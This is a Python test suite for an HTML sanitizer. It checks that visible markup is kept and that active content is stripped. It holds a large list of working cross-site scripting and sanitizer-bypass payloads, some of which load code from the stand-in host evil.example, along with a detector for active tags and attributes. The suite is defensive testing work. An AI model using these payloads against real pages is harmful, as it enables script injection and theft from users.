"""HTML that is not ours: what a reader sees stays, what acts is gone, whatever way it is written."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from factbook.render.html.clean_html import clean_around, clean_html, remove_active

SEEN = [
    pytest.param("<b>bold</b> &amp; <kbd>Ctrl</kbd>", id="words"),
    pytest.param('<a href="who.html#age" title="Who">who</a>', id="a link within the site"),
    pytest.param(
        '<a href="https://example.org/?a=1&amp;b=2">away</a> <a href="mailto:a@example.org">us</a>', id="links"
    ),
    pytest.param('<details open=""><summary>More</summary><p>Text</p></details>', id="details"),
    pytest.param(
        '<table class="dataframe"><caption>Rows</caption><thead><tr><th scope="col">a</th></tr></thead>'
        '<tbody><tr><td colspan="2">1</td></tr></tbody></table>',
        id="a table of pandas",
    ),
    pytest.param('<figure><img src="a.png" alt="A dot"><figcaption>A dot.</figcaption></figure>', id="a figure"),
    pytest.param('<img src="data:image/png;base64,AAAA" alt="a dot">', id="a picture in the page"),
    pytest.param('<span lang="ko">마약류사범</span>', id="a language"),
    pytest.param(
        '<svg viewBox="0 0 9 9" role="img" aria-label="A bar"><defs><linearGradient id="g">'
        '<stop offset="0" stop-color="red"></stop></linearGradient></defs><g transform="translate(1,1)">'
        '<rect width="4" height="4" fill="url(#g)"></rect><path d="M0 0L9 9" stroke="#123"></path>'
        '<text x="1" y="1" text-anchor="end">9</text></g></svg>',
        id="a drawing",
    ),
]


@pytest.mark.parametrize("text", SEEN)
def test_what_a_reader_sees_stays_as_it_is(text):
    assert clean_html(text) == text


ACTING = {
    "scripts": (
        "<script>x()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>x()</scr</script>ipt>",
        "<svg><script>x()</script></svg>",
        "<svg><script href='data:,x()'/></svg>",
        "<script\n>x()",
    ),
    "handlers": (
        "<img src=x onerror=x()>",
        "<b/onclick=x()>1</b>",
        "<b\tONMOUSEOVER\n=\n'x()'>1</b>",
        "<svg onload=x()><circle r=1 onclick=x() /></svg>",
        "<details open ontoggle=x()>1</details>",
        '<p title="a" onpointerenter="x()" class="b">1</p>',
    ),
    "addresses that run": (
        "<a href=javascript:x()>1</a>",
        "<a href=' java\nscript:x()'>1</a>",
        "<a href='&#106;avascript&colon;x()'>1</a>",
        "<a href='\x01javascript:x()'>1</a>",
        "<a href='vbscript:x()'>1</a>",
        "<a href='data:text/html,<script>x()</script>'>1</a>",
        "<svg><a xlink:href='javascript:x()'><text>1</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=x()/>#x'/></svg>",
        "<img src='data:text/html,x'>",
        "<img src='javascript:x()'>",
    ),
    "changes of namespace": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=x()&gt;'>",
        "<svg></p><style><a id='</style><img src=x onerror=x()>'>",
        "<svg><foreignObject><iframe srcdoc='<script>x()</script>'></iframe></foreignObject></svg>",
        "<svg><desc><img src=x onerror=x()></desc></svg>",
        "<math href='javascript:x()'><mi>1</mi></math>",
        "<svg><animate attributeName=href values=javascript:x() /></svg>",
        "<svg><set attributeName=onmouseover to=x() /></svg>",
        "<noscript><p title='</noscript><img src=x onerror=x()>'>",
        "<template><img src=x onerror=x()></template>",
        "<textarea><img title='</textarea><img src=x onerror=x()>'>",
        "<xmp><img title='</xmp><img src=x onerror=x()>'></xmp>",
        "<!--><img src=x onerror=x()>-->",
        "<![CDATA[<img src=x onerror=x()>]]>",
    ),
    "what changes the page around": (
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<meta http-equiv=Content-Security-Policy content=''>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>* {display: none}</style>",
        "<svg><style>@import '//evil.example/x.css'</style></svg>",
        "<p style='position: fixed; inset: 0'>1</p>",
        "<title>Another</title>",
        "</section></main></body><b>1</b>",
        "<rect fill='url(//evil.example/x.svg#a)'>",
    ),
    "forms": (
        "<form action=//evil.example/><input name=q><button>Go</button></form>",
        "<button formaction=javascript:x()>1</button>",
        "<input autofocus onfocus=x()>",
        "<select><option>1</option></select>",
        "<isindex action=javascript:x()>",
    ),
    "frames and objects": (
        "<iframe src=//evil.example/></iframe>",
        "<iframe srcdoc='<script>x()</script>'></iframe>",
        "<object data=javascript:x()></object>",
        "<embed src=//evil.example/>",
        "<frameset><frame src=javascript:x()></frameset>",
        "<applet code=x></applet>",
        "<portal src=//evil.example/></portal>",
        "<video><source onerror=x()></video>",
    ),
    "imitations of ours": (
        "<a class='fb-fig' data-verdict=exact data-ev=ev-x href=#x>9</a>",
        "<div id=fb-d-ok>Recomputed</div>",
        "<div id=ev-x popover>9</div>",
        "<fb-slot></fb-slot>",
    ),
}
"""Ways to act on a page, or to look like a part of it that acts, by kind."""
FORBIDDEN_TAGS = frozenset(
    "script style link meta base iframe frame frameset object embed applet form input button select option textarea "
    "template noscript math foreignobject animate set use title portal video xmp".split()
) - {"title"}


def faults(text: str) -> list[str]:
    """Return what of a piece of HTML acts, as a browser reads it."""
    tree = LexborHTMLParser(f"<!doctype html><body><div>{text}</div>")
    found = []
    for node in tree.body.traverse():
        found += [node.tag] if node.tag in FORBIDDEN_TAGS else []
        for name, value in node.attributes.items():
            address = "".join((value or "").split()).lower().lstrip("\x01")
            acts = name == "style" or name.startswith(("on", "data-", "srcdoc", "form", "popover"))
            runs = address.startswith(("javascript:", "vbscript:")) or (
                address.startswith("data:") and not (node.tag == "img" and address.startswith("data:image/"))
            )
            imitates = (name == "class" and "fb-" in address) or (name == "id" and address.startswith(("fb-", "ev-")))
            loads = "url(//" in address
            found += [f"{node.tag} {name}={value}"] if acts or runs or imitates or loads else []
    return found


@pytest.mark.parametrize(
    "paint",
    ["url(//evil.example/a)", "URL(//evil.example/a)", "url(#g) url(//evil.example/a)", r"\75rl(//evil.example/a)"],
)
def test_a_drawing_loads_nothing(paint):
    assert clean_html(f'<svg><rect fill="{paint}"></rect></svg>') == "<svg><rect></rect></svg>"


@pytest.mark.parametrize(
    "text", [pytest.param(one, id=f"{kind}: {one}") for kind, all in ACTING.items() for one in all]
)
def test_what_acts_is_gone(text):
    clean = clean_html(text)
    assert faults(clean) == []
    assert "x()" not in clean or "<" not in clean.replace("&lt;", ""), "at most shown as text"
    assert clean_html(clean) == clean, "cleaning it again changes nothing"


@given(
    st.lists(st.sampled_from([one for all in ACTING.values() for one in all] + ["<p>", "</p>", "<svg>", "<b ", "'>"]))
)
def test_no_mixture_of_attacks_acts(parts):
    assert faults(clean_html("".join(parts))) == []
    assert faults("<p>word</p>".join(clean_around(["".join(parts), None, "".join(reversed(parts))]))) == []


@pytest.mark.parametrize(
    ("parts", "clean"),
    [
        (["<b>", None, "</b>"], ["<b>", "</b>"]),
        ([None], ["", ""]),
        (["<b>1</b>"], ["<b>1</b>"]),
        (["<div>", None, None, "</div><p>2"], ["<div>", "", "</div><p>2</p>"]),
        (["<details>", None], ["<details>", "</details>"]),
        ([None, "</details>"], ["", ""]),
        (["<textarea>", None, "</textarea>"], ["", ""]),
        (["<fb-slot></fb-slot>", None], ["", ""]),
    ],
)
def test_a_tag_that_opens_before_others_content_closes_after_it(parts, clean):
    assert clean_around(parts) == clean


@pytest.mark.parametrize(
    ("body", "left"),
    [
        ('<p style="text-align: right">1</p>', "<p>1</p>"),
        ("<b onclick='x()' id=\"a\" style='color: red'>1</b>", '<b id="a">1</b>'),
        ("<p>1</p><script>x()</script><style>p {}</style>", "<p>1</p>"),
        ('<a href="javascript:x()">1</a>', "<a>1</a>"),
        ('<p>1</p><iframe src="x"></iframe><base href="y"><meta http-equiv="refresh">', "<p>1</p>"),
        ('<svg data-drawing="0a"></svg><script></script>', '<svg data-drawing="0a"></svg>'),
    ],
)
def test_what_other_writers_put_on_a_page_does_not_act(body, left):
    assert remove_active(body) == left


@pytest.mark.parametrize(
    "body",
    [
        "<p>style=&quot;x&quot; onclick=&quot;y&quot;</p>",
        '<p title="one">on the style="x" of it</p>',
        '<a class="fb-fig" data-ev="ev-x" href="evidence/x.html">9</a><br/>',
        "<td>1",
    ],
)
def test_a_page_on_which_nothing_acts_keeps_its_bytes(body):
    assert remove_active(body) == body
